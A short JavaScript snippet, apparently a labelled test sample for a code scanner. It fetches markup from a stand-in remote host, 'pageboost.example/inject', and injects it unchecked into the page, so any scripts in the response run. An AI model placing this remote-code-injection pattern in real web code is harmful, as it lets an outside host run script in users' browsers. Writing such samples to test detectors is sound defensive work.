var x = new XMLHttpRequest;

x.open('GET', 'https://cnt.pageboost.example/inject', true);

x.onload = function() {
  // expect: remote-code, unchecked-markup
  var r = document.createRange().createContextualFragment(x.response);
  document.documentElement.appendChild(r);
};

x.send();
